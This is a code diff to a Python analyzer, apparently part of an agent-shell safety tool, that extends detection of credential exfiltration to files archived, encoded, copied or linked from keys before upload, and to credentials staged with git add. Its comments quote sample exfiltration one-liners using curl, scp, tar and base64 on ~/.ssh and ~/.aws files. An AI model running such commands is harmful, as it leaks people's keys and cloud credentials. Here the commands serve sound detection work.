@@ -30,6 +30,8 @@ def analyze(view, params: dict) -> list[Fact]:
     program = view.program
     if program == "ssh-keygen":
         return _keygen(view, params)
+    if program == "git":
+        return _git_add(view, params)
     entry = senders.get(program)
     if entry is None:
         return []
@@ -49,6 +51,8 @@ def analyze(view, params: dict) -> list[Fact]:
         hit = _stdin(view.cmd, files, params)
     if not hit and kind != "code":
         hit = _by_content(view, words, entry, kind, params)
+    if not hit and kind != "code":
+        hit = _derived(view, _sent_paths(view, words, entry, kind), params)
     if not hit:
         return []
     return [Fact("cred.sent", f"{program} sends {hit}", hit)]
@@ -67,6 +71,29 @@ def _by_content(view, words: list[str], entry: dict, kind: str, params: dict) ->
     marks = _marks(params)
     if not marks:
         return ""
+    paths = _sent_paths(view, words, entry, kind)
+    from agentsh.engine.domains.common import read
+
+    files = _compiled(params)
+    for path in paths[:8]:
+        if not path or path == "-" or "$" in path:
+            continue
+        real = _linked(view.cmd, path)
+        if real and real != path:
+            # a link the line made to a credential (`ln -s ~/.ssh/id_ed25519 k; curl -d @k`)
+            hit = credential(real, files) if files else ""
+            if hit:
+                return f"{path} (a link to {hit})"
+            path = real
+        text = read(path, view.ctx)
+        if text and any(m.search(text[:65536]) for m in marks):
+            return f"{path} (its text is a credential)"
+    return ""
+
+
+def _sent_paths(view, words: list[str], entry: dict, kind: str) -> list[str]:
+    """The files a sender reads to send: its standard input file, a copy's local sources, the
+    values of its upload options and `@FILE` words."""
     paths: list[str] = []
     stdin = view.cmd.stdin
     if stdin is not None and stdin.kind == "file" and stdin.path:
@@ -86,23 +113,130 @@ def _by_content(view, words: list[str], entry: dict, kind: str, params: dict) ->
             m = UPLOAD.search(word)
             if m:
                 paths.append((m.group(1) or m.group(2) or "").split(";", 1)[0])
-    from agentsh.engine.domains.common import read
+    return paths
 
+
+LOOK_BACK = 200  # earlier commands of the line read for what they made from a credential
+OUTPUT_OPS = frozenset((">", ">>", ">|", "&>", "&>>"))
+
+
+def _derived(view, sent: list[str], params: dict) -> str:
+    """A file the line made from a credential before sending it: archived, encoded, encrypted,
+    compressed or copied first (`tar czf x.tgz ~/.ssh && curl -T x.tgz URL`, `base64
+    ~/.aws/credentials > n.txt; curl -d @n.txt URL`, `cp -r ~/.ssh k && zip -r k.zip k && scp
+    k.zip host:`). What a command that reads a credential (or such a file) writes is taken to
+    hold it: its redirects' targets and every operand it names. Judged from the text, so the
+    file need not exist yet; a sender's piped standard input counts its producers' operands."""
+    if not view.index or not view.line:
+        return ""
+    stdin = view.cmd.stdin
+    if stdin is not None and stdin.kind == "pipe":
+        sent = sent + [w for argv in (stdin.upstream or ((stdin.producer,) if stdin.producer
+                                                        else ())) for w in argv[1:]]
+    sent = [p for p in sent if p and p != "-" and not p.startswith("-")]
+    if not sent:
+        return ""
     files = _compiled(params)
-    for path in paths[:8]:
-        if not path or path == "-" or "$" in path:
+    home = view.env("HOME") or ""
+    made: dict[str, str] = {}
+    for cmd in view.line[max(0, view.index - LOOK_BACK):view.index]:
+        if not cmd.words:
             continue
-        real = _linked(view.cmd, path)
-        if real and real != path:
-            # a link the line made to a credential (`ln -s ~/.ssh/id_ed25519 k; curl -d @k`)
-            hit = credential(real, files) if files else ""
-            if hit:
-                return f"{path} (a link to {hit})"
-            path = real
-        text = read(path, view.ctx)
-        if text and any(m.search(text[:65536]) for m in marks):
-            return f"{path} (its text is a credential)"
+        origin = _reads(cmd, files, made, home)
+        if not origin:
+            continue
+        for word in _operands(cmd):
+            key = _key(word, cmd.cwd, home)
+            if key:
+                made.setdefault(key, origin)
+    if not made:
+        return ""
+    for path in sent:
+        key = _key(path, view.cmd.cwd, home)
+        if not key:
+            continue
+        for place, origin in made.items():
+            if key == place or key.startswith(place.rstrip("/") + "/"):
+                return f"{path} (made from {origin} earlier in the line)"
     return ""
+
+
+def _reads(cmd, files, made: dict, home: str) -> str:
+    """The credential a command reads (named, or a file the line made from one), or ""."""
+    words = [w.text for w in cmd.words[1:]][:256]
+    stdin = cmd.stdin
+    if stdin is not None and stdin.kind == "file" and stdin.path:
+        words.append(stdin.path)
+    elif stdin is not None and stdin.kind == "pipe":
+        words += [w for argv in (stdin.upstream or ((stdin.producer,) if stdin.producer
+                                                    else ())) for w in argv[1:]][:256]
+    for word in words:
+        hit = credential(word, files)
+        if hit:
+            return hit
+        key = _key(word.partition("=")[2] if word.startswith("-") else word, cmd.cwd, home)
+        if key in made:
+            return made[key]
+    return ""
+
+
+def _operands(cmd) -> list[str]:
+    """What a command may have written: its output redirects' targets, and every word it names
+    that is not an option (an option's `=VALUE` included: `--output=x.gpg`)."""
+    out = [r.target.text for r in cmd.redirects if r.op in OUTPUT_OPS and r.target is not None]
+    for word in (w.text for w in cmd.words[1:256]):
+        if word.startswith("-"):
+            value = word.partition("=")[2]
+            if value:
+                out.append(value)
+            continue
+        out.append(word)
+    return out
+
+
+def _key(word: str, cwd: str | None, home: str) -> str:
+    """A word as an absolute, normal path where it can be (`~` through HOME), else as written."""
+    import posixpath
+
+    if not word or "$" in word or len(word) > 4096:
+        return ""
+    if word == "~" or word.startswith("~/"):
+        if not home:
+            return posixpath.normpath(word)
+        word = home + word[1:]
+    if not word.startswith("/") and cwd:
+        word = posixpath.join(cwd, word)
+    return posixpath.normpath(word)
+
+
+def _git_add(view, params: dict) -> list[Fact]:
+    """`git add -f .env`, `git add id_ed25519`, `git add creds.txt` after `cp
+    ~/.aws/credentials creds.txt`: a credential staged for a commit, which a push then publishes
+    to everyone who can read the repository (and its history keeps it after a later delete).
+    `git add -f .` (or `-A`) stages every ignored file, a `.env` among them."""
+    words = [w.text for w in view.cmd.words[1:]]
+    plain = [w for w in words if not w.startswith("-")]
+    if "add" not in plain[:3]:  # `git -C DIR add`, `git -c k=v add`
+        return []
+    files = _compiled(params)
+    rest = words[words.index("add") + 1:]
+    forced = any(w in ("-f", "--force") or (w.startswith("-") and not w.startswith("--") and
+                                             "f" in w[1:]) for w in rest)
+    operands = [w for w in rest if not w.startswith("-")]
+    hit = ""
+    for word in operands:
+        hit = credential(word if "/" in word else "./" + word, files)  # `git add id_rsa`
+        if hit:
+            hit = word
+            break
+    if not hit and forced and (not operands or any(w in (".", "*", ":/", "./", ":/*") or
+                                                   w.endswith("/.") for w in operands)):
+        hit = "every file .gitignore keeps out (a .env, keys)"
+    if not hit:
+        hit = _derived(view, operands, params)
+    if not hit:
+        return []
+    return [Fact("cred.staged", f"git add stages {hit}", hit)]
 
 
 def _linked(cmd, path: str) -> str:
